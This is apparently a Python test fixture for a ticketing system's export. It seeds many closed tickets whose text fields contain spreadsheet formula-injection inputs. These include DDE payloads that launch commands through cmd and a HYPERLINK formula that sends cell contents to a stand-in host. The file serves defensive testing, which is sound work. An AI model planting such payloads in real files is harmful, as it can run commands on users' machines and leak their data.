"""Very many tickets at Water Resources, and in their free texts what spreadsheets take for something to reckon."""

from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import psycopg

from tests.world import ANA, ELI, T1, World

HOSTILE = (
    "=1+1",
    "+1-1",
    "-2+3",
    "@SUM(A1:A9)",
    '=HYPERLINK("http://x.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd","/C calc","x")',
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "\t=1+1",
    " =1+1",
    "\r=1+1",
    "\n=1+1",
    "_x003D_1+1",
    "{=1+1}",
    "'=1+1",
    '"=1+1"',
    "<b>&amp;</b>",
    "1e5",
    "007",
    "3-4",
    "TRUE",
    "2026-11-22",
    "$5.00",
    "50%",
    "plain words",
)
TEXTS = ("identifier", "site_name", "reported_by", "customer_reference", "owner_name", "team")
FIRST = 1_000_000  # id of the first one


def lay(cursor: psycopg.Cursor, number: int) -> datetime:
    """Write so many, closed, opened a minute apart; each text of each row is one of the hostile ones.

    Answers when the ticket before them was opened.
    """
    ticket = World().open(T1, by=ANA)
    World().take(ticket, by=ELI)
    world_columns = ", ".join(f"'{name}', (%(texts)s::text[])[{place}]" for place, name in _places())
    cursor.execute(
        f"""
        INSERT INTO ticket SELECT (jsonb_populate_record(one, jsonb_build_object(
            'id', {FIRST} + n, 'number', '3860-26-' || lpad((100000 + n)::text, 6, '0'),
            'status', 'closed', 'opened_at', one.opened_at - n * interval '1 minute',
            'restored_at', one.opened_at - n * interval '1 minute' + interval '50 seconds',
            'closed_at', one.opened_at - n * interval '1 minute' + interval '55 seconds', 'closed_how', 'accepted',
            'update_due_at', null, 'gross_seconds', 50, 'stopped_seconds', 0, 'net_seconds', 50, {world_columns}))).*
        FROM ticket one, generate_series(1, %(number)s) n WHERE one.id = %(one)s
        """,
        {"texts": list(HOSTILE), "number": number, "one": ticket.ticket_id},
    )
    cursor.execute("SELECT opened_at FROM ticket WHERE id = %s", [ticket.ticket_id])
    return cursor.fetchone()[0]


def number_of(n: int) -> str:
    """The ticket number of the nth of them, the newest being the first."""
    return f"3860-26-{100000 + n}"


def opened(n: int, before: datetime) -> str:
    """When the nth of them was opened, as a clock in California showed it, with the offset."""
    return (before - n * timedelta(minutes=1)).astimezone(ZoneInfo("America/Los_Angeles")).isoformat(timespec="seconds")


def text_of(n: int, name: str) -> str:
    """What stands in this text of the nth of them."""
    return HOSTILE[(n + 5 * TEXTS.index(name)) % len(HOSTILE)]


def _places() -> list[tuple[str, str]]:
    return [(f"1 + (n + 5 * {place}) %% {len(HOSTILE)}", name) for place, name in enumerate(TEXTS)]
